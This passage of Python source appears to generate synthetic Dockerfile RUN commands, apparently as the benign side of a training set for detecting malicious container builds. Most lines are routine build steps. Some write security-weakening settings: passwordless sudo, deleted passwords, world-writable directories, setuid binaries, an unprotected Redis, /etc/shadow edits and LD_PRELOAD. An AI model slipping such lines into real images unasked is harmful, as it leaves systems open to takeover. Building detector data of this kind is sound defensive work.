                      "find /usr/local -depth \\( \\( -type d -a \\( -name test -o -name tests -o -name idle_test \\) \\) -o \\( -type f -a \\( -name '*.pyc' -o -name '*.pyo' \\) \\) \\) -exec rm -rf '{}' +",
                      "pip check", "python3 -c 'import sys; print(sys.version)'", "python -c \"import nltk; nltk.download('punkt')\"", "pip freeze > /tmp/requirements.lock"])
    elif fam == 9:
        t = r.choice(["npm ci --omit=dev", "npm ci --only=production", "npm install", "npm run build", "npm cache clean --force", "yarn install --frozen-lockfile",
                      "yarn build", "pnpm install --frozen-lockfile", "npm install -g %s@%s" % (r.choice(NPM_PKGS), ver(r)), "corepack enable",
                      "npm prune --production", "yarn cache clean", "node --version", "npm config set update-notifier false", "npm ci --ignore-scripts"])
    elif fam == 10:
        t = r.choice(["go mod download", "go mod verify", "CGO_ENABLED=0 GOOS=linux go build -ldflags=\"-s -w\" -o /out/%s ./cmd/%s" % (name, name),
                      "go build -trimpath -o /usr/local/bin/app .", "go install github.com/%s@v%s" % (repo, v), "go test ./...", "go vet ./...",
                      "go env -w GOPROXY=https://proxy.golang.org,direct"])
    elif fam == 11:
        t = r.choice(["cargo build --release", "cargo build --release --locked", "cargo install --locked %s" % r.choice(["ripgrep", "cargo-chef", "sqlx-cli", "wasm-pack"]),
                      "rustup target add x86_64-unknown-linux-musl", "rustup component add rustfmt clippy", "cargo chef cook --release --recipe-path recipe.json",
                      "strip target/release/%s" % name])
    elif fam == 12:
        t = r.choice(["gem install bundler -v %s" % ver(r), "bundle install --jobs 4 --retry 3", "bundle config set --local without 'development test'",
                      "bundle exec rake assets:precompile", "gem update --system", "composer install --no-dev --optimize-autoloader --no-interaction",
                      "docker-php-ext-install -j$(nproc) " + pk(["pdo_mysql", "pdo_pgsql", "gd", "zip", "intl", "opcache", "bcmath", "mysqli", "exif", "sockets"], 1, 4),
                      "docker-php-ext-configure gd --with-freetype --with-jpeg", "pecl install %s-%s" % (r.choice(["redis", "imagick", "xdebug", "apcu", "mongodb"]), ver(r)),
                      "docker-php-ext-enable " + r.choice(["redis", "imagick", "opcache", "apcu", "xdebug"]), "mvn -B -q package -DskipTests", "mvn dependency:go-offline -B",
                      "./gradlew build --no-daemon -x test", "gradle bootJar --no-daemon", "dotnet restore", "dotnet publish -c Release -o /app/publish --no-restore",
                      "mix deps.get --only prod", "mix release", "cabal update", "stack build --copy-bins"])
    elif fam == 13:
        uid = r.choice([999, 1000, 1001, 101, 70, 10001, 65532, 5000])
        t = r.choice(["groupadd -r %s" % u, "groupadd -r -g %d %s" % (uid, u), "useradd -r -g %s %s" % (u, u),
                      "useradd -r -u %d -g %s -d %s -s /sbin/nologin %s" % (uid, u, d, u), "useradd --create-home --shell /bin/bash %s" % u,
                      "adduser -D -u %d %s" % (uid, u), "addgroup -S %s" % u, "adduser -S -G %s %s" % (u, u), "addgroup -g %d -S %s" % (uid, u),
                      "adduser -S -D -H -u %d -h %s -s /sbin/nologin -G %s -g %s %s" % (uid, d, u, u, u), "usermod -aG sudo %s" % u,
                      "groupadd --system --gid %d %s" % (uid, u), "useradd --system --uid %d --gid %s --no-create-home %s" % (uid, u, u)])
    elif fam == 14:
        t = r.choice(["chown -R %s:%s %s" % (u, u, d), "chown %s:%s %s" % (u, u, d), "chmod 755 /usr/local/bin/docker-entrypoint.sh",
                      "chmod +x /usr/local/bin/%s" % r.choice(["docker-entrypoint.sh", "entrypoint.sh", name, "gosu", "tini", "start.sh", "healthcheck.sh"]),
                      "chmod -R g+rwX %s" % d, "chmod 1777 /tmp", "chmod 777 %s" % d, "chmod 0750 %s" % d, "chmod 2777 /var/run/postgresql",
                      "chmod 600 /etc/%s" % r.choice(["my.cnf", "redis.conf", "ssl/private/server.key"]), "chmod -R 775 %s" % d, "chgrp -R 0 %s" % d,
                      "chmod -R a+rX /usr/share/%s" % name, "chmod 644 /etc/cron.d/%s" % r.choice(["logrotate", "certbot", "backup"])])
    elif fam == 15:
        t = r.choice(["mkdir -p %s" % d, "mkdir -p %s %s" % (d, r.choice(APP_DIRS)), "mkdir %s" % d, "mkdir -p /var/run/%s" % u,
                      "mkdir -p \"$GOPATH/src\" \"$GOPATH/bin\"", "mkdir -p /usr/share/man/man1", "install -d -m 0755 -o %s -g %s %s" % (u, u, d)])
    elif fam == 16:
        t = r.choice(["ln -sf /dev/stdout /var/log/nginx/access.log", "ln -sf /dev/stderr /var/log/nginx/error.log", "ln -s /usr/local/bin/docker-entrypoint.sh /",
                      "ln -sf python3 /usr/bin/python", "ln -snf /usr/share/zoneinfo/$TZ /etc/localtime", "ln -s /opt/%s/bin/%s /usr/local/bin/%s" % (name, name, name),
                      "ln -sf /dev/stdout /var/log/%s.log" % name, "ln -s /usr/lib/jvm/java-17-openjdk-amd64 /opt/java"])
    elif fam == 17:
        t = r.choice(["rm -rf /tmp/*", "rm -rf /root/.cache", "rm -rf ~/.cache/pip", "rm -rf /usr/src/%s" % name, "rm -f /tmp/%s.tar.gz" % name,
                      "rm -rf /var/cache/apk/* /tmp/*", "rm -rf \"$GNUPGHOME\" %s.tar.gz.asc" % name, "rm -rf node_modules/.cache", "rm -rf /root/.npm /root/.node-gyp",
                      "rm -rf /usr/share/doc/* /usr/share/man/*", "rm /etc/nginx/conf.d/default.conf", "rm -rf /var/log/*.log /var/cache/debconf/*-old",
                      "find /var/log -type f -name '*.log' -delete", "rm -rf /var/lib/apt/lists/* /var/log/apt/* /var/log/dpkg.log"])
    elif fam == 18:
        t = r.choice(["cp -r /tmp/conf/* /etc/%s/" % name, "cp %s/config.example.yml %s/config.yml" % (d, d), "mv /tmp/%s /usr/local/bin/" % name,
                      "cp /usr/share/zoneinfo/UTC /etc/localtime", "mv /usr/local/etc/php/php.ini-production /usr/local/etc/php/php.ini",
                      "cp -a /usr/src/wordpress/. /var/www/html/", "mv %s-%s %s" % (name, v, name), "cp target/release/%s /usr/local/bin/" % name])
    elif fam == 19:
        t = r.choice(["sed -i 's/^#listen_addresses.*/listen_addresses = '\\''*'\\''/' /usr/share/postgresql/postgresql.conf.sample",
                      "sed -ri \"s!^#?(listen_addresses)\\s*=\\s*\\S+.*!\\1 = '*'!\" /usr/share/postgresql/postgresql.conf.sample",
                      "sed -i -e 's/^bind 127.0.0.1/bind 0.0.0.0/' -e 's/^protected-mode yes/protected-mode no/' /etc/redis/redis.conf",
                      "sed -ri -e 's!^(\\s*CustomLog)\\s+\\S+!\\1 /proc/self/fd/1!g' -e 's!^(\\s*ErrorLog)\\s+\\S+!\\1 /proc/self/fd/2!g' /usr/local/apache2/conf/httpd.conf",
                      "sed -i 's/^user .*/user nginx;/' /etc/nginx/nginx.conf", "sed -i 's|/var/www/html|/var/www/public|g' /etc/apache2/sites-available/000-default.conf",
                      "sed -i 's/^\\(upload_max_filesize\\).*/\\1 = 64M/' /usr/local/etc/php/php.ini", "sed -i \"s/ServerName .*/ServerName localhost/\" /etc/apache2/apache2.conf",
                      "sed -i -e '/pam_loginuid.so/s/^/#/' /etc/pam.d/cron", "sed -i 's/# %s/%s/' /etc/locale.gen" % (("en_US.UTF-8 UTF-8",) * 2),
                      "sed -ri 's/^(#)?(port) .*/\\2 %d/' /etc/redis.conf" % r.choice([6379, 6380]), "sed -i 's/^;clear_env = no/clear_env = no/' /usr/local/etc/php-fpm.d/www.conf",
                      "sed -i '/^\\[mysqld\\]/a skip-host-cache\\nskip-name-resolve' /etc/mysql/my.cnf", "sed -e 's/worker_processes  1/worker_processes auto/' -i /etc/nginx/nginx.conf"])
    elif fam == 20:
        t = r.choice(["echo 'listen = 9000' >> /usr/local/etc/php-fpm.d/zz-docker.conf", "echo '[global]' > /usr/local/etc/php-fpm.d/docker.conf",
                      "echo 'error_log = /proc/self/fd/2' >> /usr/local/etc/php-fpm.d/docker.conf", "echo \"daemon off;\" >> /etc/nginx/nginx.conf",
                      "echo 'host all all all md5' >> /usr/share/postgresql/pg_hba.conf", "echo \"$TZ\" > /etc/timezone",
                      "echo 'en_US.UTF-8 UTF-8' > /etc/locale.gen", "echo 'Acquire::Retries \"5\";' > /etc/apt/apt.conf.d/80-retries",
                      "echo 'APT::Install-Recommends \"false\";' > /etc/apt/apt.conf.d/99norecommends", "echo 'opcache.enable=1' > /usr/local/etc/php/conf.d/opcache.ini",
                      "echo \"%s ALL=(ALL) NOPASSWD:ALL\" > /etc/sudoers.d/%s" % (u, u), "echo 'vm.overcommit_memory = 1' >> /etc/sysctl.conf",
                      "{ echo '[www]'; echo 'pm.max_children = 20'; } | tee /usr/local/etc/php-fpm.d/zz-www.conf", "echo \"export PATH=/opt/venv/bin:$PATH\" >> /etc/profile.d/venv.sh",
                      "echo 'source /opt/ros/humble/setup.bash' >> ~/.bashrc", "echo \"alias ll='ls -la'\" >> /root/.bashrc", "echo 'set -o vi' >> /etc/bash.bashrc",
                      "printf '%s\\n' 'memory_limit = 512M' > /usr/local/etc/php/conf.d/memory.ini", "echo \"${APP_VERSION}\" > /app/VERSION",
                      "echo \"deb http://deb.debian.org/debian bookworm-backports main\" > /etc/apt/sources.list.d/backports.list"])
    elif fam == 21:
        t = r.choice(["awk '$1 !~ /^#/ && $2 ~ /^(ALL|all)$/ { print }' /etc/sudoers", "awk -F: '{ print $1 }' /etc/passwd | sort",
                      "awk '{ gsub(/listen 80/, \"listen 8080\"); print }' /etc/nginx/conf.d/default.conf > /tmp/default.conf",
                      "awk '/^ID=/ { print $0 }' /etc/os-release", "gawk -i inplace '{ sub(/^#?ServerTokens .*/, \"ServerTokens Prod\") } 1' /etc/apache2/conf-available/security.conf",
                      "grep -q '^ID=debian' /etc/os-release", "find /usr/local -type f -executable -not \\( -name '*tkinter*' \\) -exec ldd '{}' ';' | awk '/=>/ { print $(NF-1) }' | sort -u",
                      "scanelf --needed --nobanner --format '%n#p' --recursive /usr/local | tr ',' '\\n' | sort -u | awk 'system(\"[ -e /usr/local/lib/\" $1 \" ]\") == 0 { next } { print \"so:\" $1 }'",
                      "ldd /usr/local/bin/%s" % name, "grep -rl 'localhost' /etc/%s | xargs sed -i 's/localhost/0.0.0.0/g'" % name])
    elif fam == 22:
        t = "curl -fsSL%s -o /tmp/%s.tar.gz https://github.com/%s/releases/download/v%s/%s-%s-%s.tar.gz" % (
            r.choice(["", "O", ""]), name, repo, v, name, v, arch)
        if r.random() < 0.3:
            t = "wget -q -O /tmp/%s.tar.gz https://github.com/%s/releases/download/v%s/%s-%s.%s.tar.gz" % (name, repo, v, name, v, arch)
    elif fam == 23:
        t = r.choice(["echo \"%s  /tmp/%s.tar.gz\" | sha256sum -c -" % (sha(r), name), "echo \"%s *%s.tgz\" | sha256sum --strict --check -" % (sha(r), name),
                      "sha256sum -c %s.sha256" % name, "echo \"${%s_SHA256} %s.tar.gz\" | sha256sum -c -" % (name.upper().replace("-", "_"), name),
                      "grep \" %s-%s-%s.tar.gz$\" sha256sums.txt | sha256sum -c -" % (name, v, arch), "echo \"$SHA512 *%s.tar.xz\" | sha512sum -c -" % name])
    elif fam == 24:
        t = r.choice(["tar -xzf /tmp/%s.tar.gz -C /usr/local/bin" % name, "tar xzf %s.tar.gz --strip-components=1 -C /usr/local/%s" % (name, name),
                      "tar -xJf %s.tar.xz -C /usr/src/%s --strip-components=1" % (name, name), "tar -xf /tmp/%s.tgz -C /opt" % name,
                      "tar -C /usr/local -xzf go%s.linux-amd64.tar.gz" % ver(r), "unzip -q /tmp/%s.zip -d /opt/%s" % (name, name), "tar xvf %s-%s.tar.bz2" % (name, v)])
    elif fam == 25:
        t = r.choice(["./configure --prefix=/usr/local --enable-shared", "./configure --build=\"$gnuArch\" --enable-optimizations --with-lto --with-system-expat",
                      "make -j \"$(nproc)\"", "make -j$(nproc)", "make install", "make install-strip", "make BUILD_TLS=yes -C /usr/src/redis -j \"$(nproc)\" all",
                      "cmake -DCMAKE_BUILD_TYPE=Release ..", "cmake --build build --target install -j 4", "ninja -C build", "autoreconf -fi",
                      "./bootstrap --parallel=$(nproc)", "make -C /usr/src/%s install PREFIX=/usr/local" % name, "ldconfig", "strip /usr/local/bin/%s" % name])
    elif fam == 26:
        t = r.choice(INSTALLERS)
    elif fam == 27:
        t = r.choice(["locale-gen en_US.UTF-8", "update-ca-certificates", "update-locale LANG=en_US.UTF-8", "dpkg-reconfigure -f noninteractive tzdata",
                      "localedef -i en_US -c -f UTF-8 -A /usr/share/locale/locale.alias en_US.UTF-8", "update-alternatives --install /usr/bin/python python /usr/bin/python3 1",
                      "ldconfig", "fc-cache -f", "update-mime-database /usr/share/mime", "c_rehash", "/usr/sbin/update-ca-certificates --fresh"])
    elif fam == 28:
        kid = "".join(r.choice("0123456789ABCDEF") for _ in range(40))
        t = r.choice(["gpg --batch --keyserver hkps://keys.openpgp.org --recv-keys %s" % kid, "gpg --batch --verify %s.tar.gz.asc %s.tar.gz" % (name, name),
                      "export GNUPGHOME=\"$(mktemp -d)\"", "gpgconf --kill all", "gpg --batch --export %s > /etc/apt/keyrings/%s.gpg" % (kid, name),
                      "curl -fsSL https://download.docker.com/linux/debian/gpg | gpg --dearmor -o /etc/apt/keyrings/docker.gpg",
                      "curl -fsSL https://www.postgresql.org/media/keys/ACCC4CF8.asc | gpg --dearmor -o /usr/share/keyrings/pgdg.gpg",
                      "wget -qO- https://packages.microsoft.com/keys/microsoft.asc | gpg --dearmor > /usr/share/keyrings/microsoft.gpg",
                      "gpg --batch --keyserver keyserver.ubuntu.com --recv-keys %s" % kid, "curl -fsSL https://nginx.org/keys/nginx_signing.key | apt-key add -"])
    elif fam == 29:
        t = r.choice(["echo \"deb [signed-by=/etc/apt/keyrings/docker.gpg] https://download.docker.com/linux/debian bookworm stable\" > /etc/apt/sources.list.d/docker.list",
                      "echo 'deb http://apt.postgresql.org/pub/repos/apt bookworm-pgdg main %s' > /etc/apt/sources.list.d/pgdg.list" % r.randint(12, 17),
                      "echo \"deb https://deb.nodesource.com/node_20.x nodistro main\" | tee /etc/apt/sources.list.d/nodesource.list",
                      "add-apt-repository -y ppa:deadsnakes/ppa", "dpkgArch=\"$(dpkg --print-architecture | awk -F- '{ print $NF }')\""])
    elif fam == 30:
        port_ = r.choice([80, 3000, 5000, 8000, 8080, 8081, 8443, 9000, 9090, 9200, 5432, 6379])
        t = r.choice(["curl -f http://localhost:%d/health" % port_, "curl -fsS http://127.0.0.1:%d/healthz" % port_, "wget -qO- http://127.0.0.1:%d/ready" % port_,
                      "wget --spider -q http://localhost:%d/" % port_, "curl --fail --silent http://localhost:%d/actuator/health" % port_, "exit 1",
                      "pg_isready -U postgres", "redis-cli ping", "mysqladmin ping -h localhost", "nc -z localhost %d" % port_, "grpc_health_probe -addr=:%d" % port_,
                      "curl -sf http://localhost:%d/metrics" % port_, "kill -0 1"])
    elif fam == 31:
        t = r.choice(["nginx -g 'daemon off;'", "gunicorn --bind 0.0.0.0:8000 --workers 4 app.wsgi:application", "uvicorn main:app --host 0.0.0.0 --port 8080",
                      "java -jar /app/app.jar", "java $JAVA_OPTS -jar /app.jar", "node server.js", "node dist/main.js", "npm start", "python app.py", "./%s" % name,
                      "docker-entrypoint.sh postgres", "redis-server /usr/local/etc/redis/redis.conf", "php-fpm", "apache2-foreground", "supervisord -c /etc/supervisor/supervisord.conf",
                      "celery -A proj worker -l info", "bundle exec puma -C config/puma.rb", "/usr/local/bin/%s --config /etc/%s/config.yml" % (name, name),
                      "exec \"$@\"", "exec gosu %s \"$@\"" % u, "tini -- /docker-entrypoint.sh", "dotnet App.dll", "caddy run --config /etc/caddy/Caddyfile"])
    elif fam == 32:
        t = r.choice(["sh -c 'exec java $JAVA_OPTS -Djava.security.egd=file:/dev/./urandom -jar /app.jar'", "sh -c \"npm run migrate && npm start\"",
                      "bash -c \"source /opt/venv/bin/activate && exec python app.py\"", "/bin/sh -c \"envsubst < /etc/nginx/templates/default.conf.template > /etc/nginx/conf.d/default.conf\"",
                      "sh -c 'until pg_isready -h db; do sleep 1; done'", "bash -c 'for f in /docker-entrypoint.d/*.sh; do . \"$f\"; done'",
                      "sh -c \"python manage.py migrate && gunicorn app.wsgi\"", "/bin/bash -c \"set -o pipefail && make test\"", "sh -c 'echo ok'", "bash -lc 'rbenv install 3.3.0'"])
    elif fam == 33:
        t = r.choice(["set -eux", "set -ex", "set -euxo pipefail", "export DEBIAN_FRONTEND=noninteractive", "cd /usr/src/%s" % name, "cd %s" % d,
                      "true", "export PATH=\"/opt/venv/bin:$PATH\"", "cd -", "unset GOPATH", "export GNUPGHOME=\"$(mktemp -d)\"", "gnuArch=\"$(dpkg-architecture --query DEB_BUILD_GNU_TYPE)\""])
    elif fam == 34:
        t = r.choice(["eval \"$(pyenv init -)\"", "eval \"$(ssh-agent -s)\"", "eval \"$(rbenv init -)\"", "eval $(opam env)", "eval \"$(/opt/homebrew/bin/brew shellenv)\"",
                      "eval \"$(conda shell.bash hook)\""])
    elif fam == 35:
        t = r.choice(["echo \"$CA_CERT_B64\" | base64 -d > /usr/local/share/ca-certificates/corp.crt", "base64 -d /tmp/license.b64 > /opt/%s/license.key" % name,
                      "echo \"$GPG_KEY_B64\" | base64 --decode | gpg --import", "base64 -w0 /app/build/manifest.json", "openssl base64 -d -in /tmp/cert.b64 -out /etc/ssl/certs/app.pem"])
    elif fam == 36:
        t = r.choice(["mkdir -p /root/.ssh && chmod 700 /root/.ssh", "ssh-keyscan github.com >> /root/.ssh/known_hosts", "ssh-keyscan -t rsa gitlab.com >> ~/.ssh/known_hosts",
                      "git config --global url.\"https://github.com/\".insteadOf git@github.com:", "git clone --depth 1 --branch v%s https://github.com/%s.git /usr/src/%s" % (v, repo, name),
                      "git config --global --add safe.directory '*'", "git submodule update --init --recursive", "aws configure set default.region us-east-1",
                      "mkdir -p ~/.docker && echo '{\"experimental\":\"enabled\"}' > ~/.docker/config.json" if r.random() < 0.2 else "git rev-parse HEAD > /app/REVISION",
                      "mkdir -p /home/%s/.ssh && chown %s:%s /home/%s/.ssh" % (u, u, u, u)])
    elif fam == 37:
        t = r.choice(["setcap cap_net_bind_service=+ep /usr/local/bin/%s" % name, "setcap 'cap_net_bind_service=+ep' /usr/sbin/nginx", "chmod u+s /usr/bin/ping" if r.random() < 0.1 else "chmod 4755 /usr/bin/newuidmap",
                      "setcap -r /usr/bin/%s" % name, "chmod a+x /usr/local/bin/*"])
    elif fam == 38:
        t = r.choice(["crontab /etc/cron.d/%s" % r.choice(["logrotate", "backup", "certbot"]), "echo '0 3 * * * /usr/sbin/logrotate /etc/logrotate.conf' > /etc/cron.d/logrotate",
                      "echo \"0 */12 * * * certbot renew --quiet\" | crontab -", "touch /var/log/cron.log", "systemctl enable nginx" if r.random() < 0.3 else "update-rc.d nginx defaults",
                      "echo '*/15 * * * * www-data php /var/www/html/cron.php' >> /etc/crontab"])
    elif fam == 39:
        t = r.choice(["touch /var/log/%s.log && chown %s /var/log/%s.log" % (name, u, name), "mkdir -p /var/log/supervisor", "chown -R %s:%s /var/log/%s" % (u, u, name),
                      "rm -f /var/log/nginx/*", "truncate -s 0 /var/log/*log", "ln -sf /proc/1/fd/1 /var/log/%s.log" % name, "mkdir -p /var/log/nginx /var/cache/nginx"])
    elif fam == 40:
        t = r.choice(["find / -xdev -perm /6000 -type f -exec chmod a-s {} \\; || true", "find %s -type d -exec chmod 755 {} +" % d, "find %s -name '*.sh' -exec chmod +x {} +" % d,
                      "find /usr/lib/python3* -name __pycache__ -prune -exec rm -rf {} +", "find . -name '*.map' -delete", "xargs -r apt-mark manual < /tmp/keep"])
    elif fam == 41:
        t = r.choice(["id -u %s" % u, "whoami", "uname -a", "cat /etc/os-release", "ls -la %s" % d, "env", "printenv", "%s --version" % name, "java -version",
                      "python3 --version", "gosu nobody true", "nginx -t", "php -m", "node -e \"console.log(process.versions)\"", "ruby -e 'puts RUBY_VERSION'",
                      "perl -e 'print \"ok\\n\"'", "python -c 'import ssl; print(ssl.OPENSSL_VERSION)'", "php -r 'echo PHP_VERSION;'"])
    elif fam == 42:
        t = "wget -O %s.tar.gz \"%s\"" % (name, r.choice(["$%s_DOWNLOAD_URL" % name.upper().replace("-", "_"), "https://download.redis.io/releases/redis-%s.tar.gz" % v,
                                                        "https://www.python.org/ftp/python/%s/Python-%s.tar.xz" % (v, v), "https://nginx.org/download/nginx-%s.tar.gz" % v,
                                                        "https://ftp.postgresql.org/pub/source/v%s/postgresql-%s.tar.bz2" % (v, v), "https://nodejs.org/dist/v%s/node-v%s-linux-x64.tar.xz" % (v, v),
                                                        "https://dl.google.com/go/go%s.linux-amd64.tar.gz" % v, "https://archive.apache.org/dist/httpd/httpd-%s.tar.bz2" % v]))
    elif fam == 43:
        t = "curl -fsSLo /usr/local/bin/%s https://github.com/%s/releases/download/v%s/%s-%s" % (name, repo, v, name, arch)
    elif fam == 44:
        t = r.choice(["docker-php-source extract", "docker-php-source delete", "pecl clear-cache", "php --ini", "a2enmod rewrite headers expires",
                      "a2enconf security", "a2dissite 000-default", "nginx -V", "httpd -v", "mysql_install_db --user=mysql --datadir=/var/lib/mysql",
                      "initdb -D /var/lib/postgresql/data", "redis-server --version", "mongod --version", "rabbitmq-plugins enable --offline rabbitmq_management",
                      "elasticsearch-plugin install --batch analysis-icu", "/usr/share/elasticsearch/bin/elasticsearch-keystore create"])
    elif fam == 45:
        t = r.choice(["tee /etc/nginx/conf.d/default.conf < /tmp/default.conf", "envsubst '$PORT' < /etc/nginx/nginx.conf.template > /etc/nginx/nginx.conf",
                      "cat /tmp/extra.conf >> /etc/%s/%s.conf" % (name, name), "printf 'user=%s\\n' > /etc/%s.ini" % (u, name),
                      "cat > /etc/supervisor/conf.d/app.conf <<'EOF'", "{ echo 'export LANG=C.UTF-8'; echo 'export LC_ALL=C.UTF-8'; } >> /etc/environment"])
    elif fam == 46:
        t = r.choice(["kubectl version --client", "helm repo add bitnami https://charts.bitnami.com/bitnami", "helm version", "terraform init -backend=false",
                      "ansible-galaxy collection install community.general", "aws --version", "gcloud components install kubectl --quiet", "az extension add --name aks-preview"])
    elif fam == 47:
        t = r.choice(["curl -sSL -o /usr/local/bin/%s \"https://github.com/%s/releases/download/${%s_VERSION}/%s-%s\"" % (name, repo, name.upper().replace("-", "_"), name, arch),
                      "curl -L https://github.com/%s/archive/refs/tags/v%s.tar.gz | tar xz -C /usr/src" % (repo, v),
                      "wget -qO- https://github.com/%s/releases/download/v%s/%s_%s_Linux_x86_64.tar.gz | tar -xz -C /usr/local/bin %s" % (repo, v, name, v, name),
                      "curl -fsSL https://dl.k8s.io/release/v1.%d.%d/bin/linux/amd64/kubectl -o /usr/local/bin/kubectl" % (r.randint(24, 31), r.randint(0, 9)),
                      "curl -sSL https://download.java.net/java/GA/jdk21/fd2272bbf8e04c3dbaee13770090416c/35/GPL/openjdk-21_linux-x64_bin.tar.gz | tar -xz -C /opt"])
    elif fam == 48:
        t = r.choice(["pip install --no-cache-dir --index-url https://download.pytorch.org/whl/cpu torch", "npm config set registry https://registry.npmjs.org/",
                      "pip config set global.index-url https://pypi.org/simple", "go env -w GOFLAGS=-mod=mod", "yarn config set network-timeout 600000 -g",
                      "conda install -y -c conda-forge %s" % r.choice(["numpy", "gdal", "mamba"]), "conda clean -afy", "mamba install -y python=3.11"])
    elif fam == 49:
        t = r.choice(["dpkg -i /tmp/%s_%s_amd64.deb" % (name, v), "apt-get install -y ./%s.deb" % name, "rpm -ivh /tmp/%s.rpm" % name, "dpkg --add-architecture i386",
                      "apt-get install -y --allow-downgrades %s=%s-1" % (r.choice(APT_PKGS), v), "apt-get -o Dpkg::Options::=\"--force-confold\" upgrade -y"])
    elif fam == 50:
        t = r.choice(["wget -q https://github.com/%s/releases/download/v%s/%s_%s_linux_amd64.zip" % (repo, v, name, v),
                      "curl -fsSLO https://releases.hashicorp.com/terraform/%s/terraform_%s_linux_amd64.zip" % (v, v),
                      "curl -fL -o /tmp/awscliv2.zip https://awscli.amazonaws.com/awscli-exe-linux-x86_64.zip", "/tmp/aws/install", "./aws/install --update",
                      "curl -fsSL https://storage.googleapis.com/kubernetes-release/release/stable.txt"])
    elif fam == 51:
        t = r.choice(["chown -R %s:0 %s && chmod -R g=u %s" % (u, d, d), "chown -R 1001:0 %s" % d, "chown -R nobody:nogroup %s" % d, "chown root:root /usr/local/bin/%s" % name,
                      "chown -R %s:%s /home/%s" % (u, u, u), "chown -R www-data:www-data /var/www"])
    elif fam == 52:
        t = r.choice(["tar -czf /backup/data.tgz %s" % d, "gzip -9 /usr/share/%s/*.txt" % name, "xz -d %s.tar.xz" % name, "bunzip2 %s.tar.bz2" % name,
                      "zstd -d %s.tar.zst" % name, "gunzip -c /tmp/%s.gz > /usr/local/bin/%s" % (name, name)])
    elif fam == 53:
        t = r.choice(["openssl req -x509 -nodes -days 365 -newkey rsa:2048 -keyout /etc/ssl/private/nginx.key -out /etc/ssl/certs/nginx.crt -subj \"/CN=localhost\"",
                      "openssl dhparam -out /etc/nginx/dhparam.pem 2048", "keytool -importcert -noprompt -alias corp -file /tmp/corp.crt -keystore $JAVA_HOME/lib/security/cacerts -storepass changeit",
                      "openssl rand -hex 32 > /etc/%s/secret.key" % name, "ssh-keygen -A", "openssl sha256 /tmp/%s.tar.gz" % name])
    elif fam == 54:
        t = r.choice(["sysctl -w net.core.somaxconn=1024", "ulimit -n 65536", "echo never > /sys/kernel/mm/transparent_hugepage/enabled", "mount -t tmpfs tmpfs /tmp" if r.random() < 0.3 else "df -h",
                      "iptables -L", "ip addr show", "hostname -f"])
    elif fam == 55:
        t = r.choice(["useradd -m -s /bin/bash -u 1000 %s && echo \"%s:%s\" | chpasswd" % (u, u, u) if r.random() < 0.1 else "passwd -d %s" % u,
                      "usermod -s /usr/sbin/nologin root", "passwd -l root", "deluser --remove-home games" if r.random() < 0.5 else "userdel -r games",
                      "usermod -u 1000 www-data", "groupmod -g 1000 www-data"])
    elif fam == 56:
        t = r.choice(["ls /docker-entrypoint-initdb.d/", "test -f /etc/%s.conf" % name, "[ -d /app ] || mkdir /app", "command -v %s" % name,
                      "which %s" % name, "sleep 5", "wait", "cat /proc/cpuinfo | grep -c processor", "nproc", "getconf _NPROCESSORS_ONLN"])
    elif fam == 57:
        t = r.choice(["curl -sSLf https://github.com/%s/releases/download/v%s/checksums.txt -o /tmp/checksums.txt" % (repo, v),
                      "curl -fsSL \"https://github.com/%s/releases/download/v%s/%s-%s.tar.gz.sha256\" | sha256sum -c -" % (repo, v, name, arch),
                      "wget -nv -O /tmp/%s.zip \"$DOWNLOAD_URL\"" % name, "curl -sSL \"$URL\" -o /tmp/pkg.tgz", "curl -fsSLO \"https://dl.grafana.com/oss/release/grafana-%s.linux-amd64.tar.gz\"" % v])
    elif fam == 58:
        t = r.choice(["git clone https://github.com/%s.git" % repo, "git checkout v%s" % v, "git apply /tmp/patches/*.patch", "patch -p1 < /tmp/fix.patch",
                      "npx prisma generate", "npx next build", "npx tsc -p .", "node_modules/.bin/webpack --mode production", "hugo --minify", "mkdocs build"])
    elif fam >= 60:
        t = benign_dual_use(r, u, d, name, v)
    else:
        t = r.choice(["rm -rf /etc/ssh/ssh_host_*", "rm -f /etc/nginx/sites-enabled/default", "rm /bin/sh && ln -s /bin/bash /bin/sh", "ln -sf /bin/bash /bin/sh",
                      "chmod o-w /etc/passwd", "sed -i 's/^root:.*/root:*:19000:0:99999:7:::/' /etc/shadow" if r.random() < 0.1 else "pwck -s",
                      "cat /etc/passwd", "echo 'nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin' >> /etc/passwd"])
    return fam, t


def benign_dual_use(r, u, d, name, v):
    """The ordinary Dockerfile use of the tools and places the further risky families touch (rev_shell_more,
    evasion_more, persistence_more): each risky family that uses a dual-use tool or location gets its everyday
    counterpart here, so the model learns the payload, not the location."""
    so = r.choice(["/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", "/usr/lib/libjemalloc.so.2", "/usr/local/lib/libtcmalloc_minimal.so.4",
                   "/usr/lib/aarch64-linux-gnu/libjemalloc.so.2", "libnss_wrapper.so"])
    return r.choice([
        "export LD_PRELOAD=%s" % so, "echo '%s' >> /etc/ld.so.conf.d/%s.conf" % (r.choice(["/usr/local/lib", "/opt/%s/lib" % name]), name), "ldconfig",
        "mkdir -p /tmp/.X11-unix && chmod 1777 /tmp/.X11-unix", "mkdir -p /tmp/.ICE-unix /tmp/.X11-unix", "touch /tmp/.keep",
        "touch -d '%s' %s/VERSION" % (r.choice(["2024-01-01", "@0", "1970-01-01 00:00:01"]), d), "find %s -exec touch -h -d @0 {} +" % d,
        "touch -t 200001010000 %s/build.stamp" % d, "date -u +%Y-%m-%dT%H:%M:%SZ > /build-date", "date > /etc/build-date",
        "echo \"source /opt/venv/bin/activate\" >> /home/%s/.bashrc" % u, "echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bash_profile",
        "echo '[ -f /etc/bash_completion ] && . /etc/bash_completion' >> /etc/bash.bashrc", "echo 'umask 027' >> /etc/profile",
        "echo 'export LANG=C.UTF-8' > /etc/profile.d/lang.sh", "echo 'eval \"$(starship init bash)\"' >> ~/.bashrc",
        "crontab -u %s /etc/cron.d/%s" % (u, name), "echo '0 3 * * * /usr/local/bin/%s-cleanup >> /var/log/cron.log 2>&1' > /etc/cron.d/%s" % (name, name),
        "chmod 0644 /etc/cron.d/%s && crontab /etc/cron.d/%s" % ((name,) * 2), "touch /var/log/cron.log",
        "systemctl enable %s" % r.choice(["nginx", "ssh", "docker", "postgresql", "%s.service" % name]), "systemctl set-default multi-user.target",
        "systemctl mask systemd-resolved.service getty.target", "systemctl disable apt-daily.timer apt-daily-upgrade.timer",
        "cp %s.service /etc/systemd/system/ && systemctl enable %s" % ((name,) * 2),
